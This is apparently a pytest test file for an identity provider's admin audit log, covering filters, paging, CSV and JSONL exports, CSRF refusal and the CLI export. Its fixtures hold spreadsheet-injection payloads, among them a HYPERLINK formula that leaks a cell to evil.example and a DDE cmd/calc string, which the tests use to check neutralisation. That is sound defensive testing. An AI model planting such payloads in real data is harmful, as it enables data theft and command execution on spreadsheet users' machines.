"""The audit log at /admin/audit: filters, pages, and the CSV and JSON Lines exports (the page's and
``idp audit export``), whose rows must be exactly the filtered events, with spreadsheet formulas
neutralised (OWASP CSV Injection)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import create_engine, select
from sqlalchemy.orm import Session

from idp.cli import main
from idp.extensions import db
from idp.models import AuditEvent
from idp.models.base import utcnow
from idp.services import audit
from idp.services.audit import AuditFilter, RequestContext
from tests.support.admin import ConsoleBrowser, passkey_browser
from tests.support.cli import initialised_cli
from tests.support.factories import create_client, create_user

CHROME = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36"
)
#: Cells a spreadsheet would run: a formula, a DDE call, a leading + - @.
FORMULA_UA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
FORMULA_REASON = "+cmd|' /C calc'!A0"
BASE_TIME = utcnow().replace(microsecond=0) - timedelta(days=2)


def seed(app: Flask, *events: dict[str, Any]) -> list[int]:
    """Audit events as the services record them, at chosen times; returns their ids."""
    ids = []
    with app.app_context():
        for spec in events:
            spec = dict(spec)
            at = spec.pop("at", BASE_TIME)
            context = RequestContext(spec.pop("ip", "198.51.100.4"), spec.pop("ua", CHROME))
            event = audit.record(db.session(), spec.pop("kind"), context=context, **spec)
            event.at = at
            db.session.flush()
            ids.append(event.id)
        db.session.commit()
    return ids


@pytest.fixture
def admin(app: Flask) -> ConsoleBrowser:
    return passkey_browser(app, "root@example.com")


@pytest.fixture
def world(app: Flask, admin: ConsoleBrowser) -> dict[str, Any]:
    """Two users, two clients, successes and failures over three days."""
    ada = create_user(app, email="ada@example.com")
    bob = create_user(app, email="bob@example.com")
    t = BASE_TIME
    ids = seed(
        app,
        {"kind": "login.passkey", "subject_id": ada.id, "client_id": "app-one", "at": t},
        {"kind": "login.password", "outcome": "failure", "subject_id": ada.id,
         "at": t + timedelta(hours=1), "ua": FORMULA_UA, "reason": FORMULA_REASON},
        {"kind": "login.password", "subject_id": bob.id, "client_id": "app-two",
         "at": t + timedelta(days=1), "ip": "-2+3"},
        {"kind": "user.disabled", "actor_id": admin.user.id, "subject_id": bob.id,
         "at": t + timedelta(days=1, hours=2), "ip": "@sum(1)"},
        {"kind": "passkey.registered", "subject_id": bob.id, "client_id": "app-one",
         "at": t + timedelta(days=2)},
    )  # fmt: skip
    return {"ada": ada, "bob": bob, "ids": ids, "admin": admin}


def listed_ids(html: str) -> list[int]:
    import re

    return [int(i) for i in re.findall(r'data-event-id="(\d+)"', html)]


def link(html: str, name: str) -> str:
    """The address of the page link ``name`` ("older" or "newer")."""
    import html as markup
    import re

    found = re.search(rf'id="{name}" rel="\w+" href="([^"]+)"', html)
    assert found, f"no {name} link"
    return markup.unescape(found.group(1))


def seeded(world: dict[str, Any], *positions: int) -> list[int]:
    """The seeded ids at ``positions``, newest first (the log's order)."""
    return sorted((world["ids"][p] for p in positions), reverse=True)


# -- the page ------------------------------------------------------------------------------------
def test_the_log_shows_time_kind_outcome_people_client_address_and_browser(
    world: dict[str, Any],
) -> None:
    page = world["admin"].browser.get("/admin/audit?kind=user.disabled")
    assert page.status_code == 200
    assert listed_ids(page.text) == seeded(world, 3)
    assert "root@example.com" in page.text  # the actor, by email
    assert "bob@example.com" in page.text  # the subject, by email
    assert "@sum(1)" in page.text
    assert "Chrome 131 on Linux" in page.text
    failure = world["admin"].browser.get("/admin/audit?outcome=failure&user=ada@example.com")
    assert "failure" in failure.text
    assert FORMULA_REASON.replace("'", "&#39;") in failure.text  # escaped, shown as text


def test_the_log_names_the_client_app_beside_its_id(app: Flask, admin: ConsoleBrowser) -> None:
    """An admin reads "Team wiki", not only a random client id; an app deleted since shows its id
    alone (the event keeps it)."""
    wiki = create_client(app, name="Team wiki")
    seed(app, {"kind": "login.passkey", "client_id": wiki.client_id},
         {"kind": "login.passkey", "client_id": "deleted-app"})  # fmt: skip
    page = admin.browser.get("/admin/audit?kind=login.passkey").text
    assert f'Team wiki<br><code class="muted">{wiki.client_id}</code>' in page
    assert '<td data-label="app"><code class="muted">deleted-app</code></td>' in page


@pytest.mark.parametrize(
    ("query", "positions"),
    [
        ("user=ada@example.com", [0, 1]),
        ("user=BOB@example.com", [2, 3, 4]),  # the subject, whatever the case of the email
        ("user=nobody@example.com", []),
        ("client=app-one", [0, 4]),
        # The admin's own sign-in (now) comes after {t2}.
        ("kind=login.password&until={t2}", [1, 2]),
        ("kind=login.*&until={t2}", [0, 1, 2]),  # a prefix
        ("outcome=failure", [1]),
        ("outcome=failure&user=bob@example.com", []),
        ("since={t1}&until={t2}", [2, 3]),
        ("user=bob@example.com&client=app-one&kind=passkey.registered", [4]),
    ],
)
def test_filters_select_exactly_the_matching_events(
    app: Flask, world: dict[str, Any], query: str, positions: list[int]
) -> None:
    t1 = (BASE_TIME + timedelta(days=1)).strftime("%Y-%m-%dT%H:%M:%S")
    t2 = (BASE_TIME + timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%S")
    page = world["admin"].browser.get("/admin/audit?" + query.format(t1=t1, t2=t2))
    assert page.status_code == 200
    expected = seeded(world, *positions)
    assert listed_ids(page.text) == expected


def test_the_actor_filter_finds_what_an_admin_did(world: dict[str, Any]) -> None:
    page = world["admin"].browser.get("/admin/audit?user=root@example.com&kind=user.disabled")
    assert listed_ids(page.text) == seeded(world, 3)


def test_the_log_is_paged_newest_first(app: Flask, admin: ConsoleBrowser) -> None:
    ids = seed(app, *({"kind": "test.paged", "at": BASE_TIME + timedelta(minutes=i)}
                      for i in range(audit.PAGE_SIZE + 7)))  # fmt: skip
    first = admin.browser.get("/admin/audit?kind=test.paged")
    assert listed_ids(first.text) == sorted(ids, reverse=True)[: audit.PAGE_SIZE]
    assert 'id="older"' in first.text
    assert 'id="newer"' not in first.text
    second = admin.browser.get(link(first.text, "older"))
    assert listed_ids(second.text) == sorted(ids, reverse=True)[audit.PAGE_SIZE :]
    assert 'id="older"' not in second.text
    back = admin.browser.get(link(second.text, "newer"))
    assert listed_ids(back.text) == listed_ids(first.text)
    assert 'id="newer"' not in back.text


def test_a_malformed_time_is_a_calm_400(admin: ConsoleBrowser) -> None:
    response = admin.browser.get("/admin/audit?since=yesterday")
    assert response.status_code == 400
    assert "not valid" in response.text


def test_a_time_with_no_utc_time_in_the_calendar_is_a_calm_400(
    app: Flask, admin: ConsoleBrowser
) -> None:
    """A zoned time at the calendar's edge has no UTC time (Python's OverflowError): the same
    400 as any malformed time, on the page, its exports and the API, never a 500."""
    from tests.functional.test_api import Api, issue, problem

    api = Api(app, issue(app, "audit:read"))
    for edge in ("9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00"):
        for name in ("since", "until"):
            page = admin.browser.get("/admin/audit", query_string={name: edge})
            assert page.status_code == 400, (name, edge)
            exported = admin.post("/admin/audit/export.csv", {name: edge})
            assert exported.status_code == 400, (name, edge)
            problem(api.call("GET", "/audit", query_string={name: edge}), 400, "invalid-query")


# -- exports ---------------------------------------------------------------------------------------
def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_holds_exactly_the_filtered_events_with_formulas_neutralised(
    world: dict[str, Any],
) -> None:
    until = (BASE_TIME + timedelta(days=2)).isoformat()
    response = world["admin"].post(
        "/admin/audit/export.csv", {"kind": "login.password", "until": until}
    )
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.mimetype_params.get("charset") == "utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="idp-audit-')
    assert disposition.endswith('.csv"')
    assert "Content-Length" not in response.headers  # streamed
    rows = csv_rows(response.text)
    assert list(rows[0]) == list(audit.EXPORT_COLUMNS)
    assert [int(r["id"]) for r in rows] == seeded(world, 1, 2)
    by_id = {int(r["id"]): r for r in rows}
    failure = by_id[world["ids"][1]]
    assert failure["subject_email"] == "ada@example.com"
    assert failure["outcome"] == "failure"
    # OWASP CSV Injection: a formula becomes text with a leading apostrophe.
    assert failure["user_agent"] == "'" + FORMULA_UA
    assert json.loads(failure["details"]) == {"reason": FORMULA_REASON}  # inside JSON: inert
    assert by_id[world["ids"][2]]["ip_address"] == "'-2+3"
    assert by_id[world["ids"][2]]["client_id"] == "app-two"
    # Every cell is quoted, so no cell begins unquoted with a formula character.
    for line in response.text.splitlines()[1:]:
        assert line.startswith('"')
        assert all(not cell.startswith(("=", "+", "-", "@")) for cell in line.split('","'))


def test_jsonl_export_holds_the_same_events_unaltered(world: dict[str, Any]) -> None:
    query = "user=bob@example.com"
    response = world["admin"].post("/admin/audit/export.jsonl", {"user": "bob@example.com"})
    assert response.status_code == 200
    assert response.mimetype == "application/jsonl"
    assert response.headers["Content-Disposition"].endswith('.jsonl"')
    records = [json.loads(line) for line in response.text.splitlines()]
    assert [r["id"] for r in records] == seeded(world, 2, 3, 4)
    disabled = next(r for r in records if r["kind"] == "user.disabled")
    assert disabled["actor_email"] == "root@example.com"
    assert disabled["subject_email"] == "bob@example.com"
    assert disabled["ip_address"] == "@sum(1)"  # JSON needs no neutralising
    assert disabled["browser"] == "Chrome 131 on Linux"
    assert datetime.fromisoformat(disabled["at"]) == BASE_TIME + timedelta(days=1, hours=2)
    page = world["admin"].browser.get(f"/admin/audit?{query}")
    assert [r["id"] for r in records] == listed_ids(page.text)


def test_the_page_posts_its_filter_to_both_exports(world: dict[str, Any]) -> None:
    page = world["admin"].browser.get("/admin/audit?client=app-one&outcome=success")
    assert 'action="/admin/audit/export.csv"' in page.text
    assert 'formaction="/admin/audit/export.jsonl"' in page.text
    form = page.text.split('id="audit-exports"', 1)[1].split("</form>", 1)[0]
    fields = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', form))
    assert fields.pop("csrf_token")
    assert fields == {"client": "app-one", "outcome": "success"}


def _exported_rows(app: Flask) -> list[AuditEvent]:
    with app.app_context():
        return list(
            db.session.scalars(select(AuditEvent).where(AuditEvent.kind == "audit.exported"))
        )


def test_a_get_of_an_export_is_refused_and_writes_no_audit_row(
    app: Flask, world: dict[str, Any]
) -> None:
    """Another site's link or top-level navigation carries the SameSite=Lax cookie: a GET must
    not make the admin's browser write an ``audit.exported`` row (or download the log)."""
    for method in ("GET", "HEAD"):
        response = world["admin"].browser.open(
            "/admin/audit/export.csv?kind=login.password", method=method
        )
        assert response.status_code == 405, method
        assert "Content-Disposition" not in response.headers
    assert _exported_rows(app) == []


def test_an_export_without_the_csrf_token_is_refused_and_writes_no_audit_row(
    app: Flask, world: dict[str, Any]
) -> None:
    refused = world["admin"].browser.post("/admin/audit/export.csv", data={"kind": "login.*"})
    assert refused.status_code == 400
    assert "Content-Disposition" not in refused.headers
    assert _exported_rows(app) == []


def test_an_export_is_itself_audited(app: Flask, world: dict[str, Any]) -> None:
    # Closed at once: an unread streaming response left to the garbage collector would close
    # its request context in the middle of a later request.
    world["admin"].post("/admin/audit/export.csv", {"kind": "login.password"}).close()
    with app.app_context():
        event = db.session.scalars(
            select(AuditEvent).where(AuditEvent.kind == "audit.exported")
        ).one()
    assert event.actor_id == world["admin"].user.id
    assert event.details == {"format": "csv", "filter": {"kind": "login.password"}}


def test_an_unknown_export_format_is_404(admin: ConsoleBrowser) -> None:
    assert admin.post("/admin/audit/export.xlsx").status_code == 404


def test_a_long_export_reads_in_batches_without_losing_or_repeating_a_row(
    storage_app: Flask,
) -> None:
    """Keyset pages on (at, id), several events sharing one timestamp, on both databases."""
    at = BASE_TIME
    ids = seed(storage_app, *({"kind": "test.batch", "at": at + timedelta(seconds=i // 3)}
                              for i in range(23)))  # fmt: skip
    with storage_app.app_context():
        rows = list(audit.iter_rows(db.session(), AuditFilter(kind="test.batch"), batch=4))
    exported = [row.event.id for row in rows]
    assert sorted(exported) == sorted(ids)
    assert len(set(exported)) == len(exported)
    times = [row.event.at for row in rows]
    assert times == sorted(times, reverse=True)


# -- the command line ------------------------------------------------------------------------------
def test_cli_export_prints_the_filtered_events_as_csv_and_jsonl(tmp_path: Path) -> None:
    runner = initialised_cli(tmp_path, IDP_PRUNE_INTERVAL="0")
    url = runner.env["IDP_DATABASE_URL"]
    created = runner.invoke(main, ["users", "create", "ada@example.com", "--json"])
    assert created.exit_code == 0, created.output
    ada_id = json.loads(created.output)["id"]
    engine = create_engine(url)
    with Session(engine) as session:
        for kind, outcome, ua in (("login.password", "failure", FORMULA_UA),
                                  ("login.passkey", "success", CHROME),
                                  ("user.disabled", "success", CHROME)):  # fmt: skip
            event = audit.record(session, kind, outcome=outcome, subject_id=ada_id,
                                 context=RequestContext("192.0.2.1", ua))  # fmt: skip
            event.at = BASE_TIME
        session.commit()
        logins = select(AuditEvent.id).where(
            AuditEvent.kind.like("login.%"), AuditEvent.subject_id == ada_id
        )
        expected = sorted(session.scalars(logins), reverse=True)
    engine.dispose()

    args = ["audit", "export", "--user", "ada@example.com", "--kind", "login.*"]
    as_csv = runner.invoke(main, [*args, "--format", "csv"])
    assert as_csv.exit_code == 0, as_csv.output
    rows = csv_rows(as_csv.output)
    assert [int(r["id"]) for r in rows] == expected
    assert rows[-1]["user_agent"] == "'" + FORMULA_UA
    as_jsonl = runner.invoke(main, [*args, "--since", BASE_TIME.isoformat()])
    assert as_jsonl.exit_code == 0, as_jsonl.output
    records = [json.loads(line) for line in as_jsonl.output.splitlines()]
    assert [r["id"] for r in records] == expected
    assert {r["subject_email"] for r in records} == {"ada@example.com"}
    later = runner.invoke(main, [*args, "--since", (BASE_TIME + timedelta(seconds=1)).isoformat()])
    assert later.output == ""
    refused = runner.invoke(main, ["audit", "export", "--until", "tomorrow"])
    assert refused.exit_code != 0
    assert "ISO 8601" in refused.output


def test_a_download_in_progress_holds_no_transaction_open(storage_app: Flask) -> None:
    """A slow client must not keep the export's transaction open: on PostgreSQL an idle open
    transaction holds its snapshot (vacuum waits) and its locks; writers must go on meanwhile."""
    from sqlalchemy import text

    admin = passkey_browser(storage_app, "root@example.com")
    seed(storage_app, *({"kind": "test.slow"} for _ in range(audit.EXPORT_BATCH + 10)))
    response = admin.post("/admin/audit/export.jsonl", {"kind": "test.slow"}, buffered=False)
    chunks = (c if isinstance(c, bytes) else c.encode() for c in response.response)
    first = next(chunks)
    assert b"test.slow" in first
    # Half-way through the download, from another connection:
    url = storage_app.config["SQLALCHEMY_DATABASE_URI"]
    wait_a_second = (
        {"timeout": 1} if url.startswith("sqlite") else {"options": "-c lock_timeout=1000"}
    )
    engine = create_engine(url, connect_args=wait_a_second)
    with Session(engine) as other:
        if other.get_bind().dialect.name == "postgresql":
            idle_in_transaction = other.scalar(text(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                "AND state LIKE 'idle in transaction%'"))  # fmt: skip
            assert idle_in_transaction == 0
        audit.record(other, "test.meanwhile")  # a writer waits at most a second
        other.commit()
    engine.dispose()
    rest = b"".join(chunks)
    response.close()
    assert len((first + rest).splitlines()) == audit.EXPORT_BATCH + 10
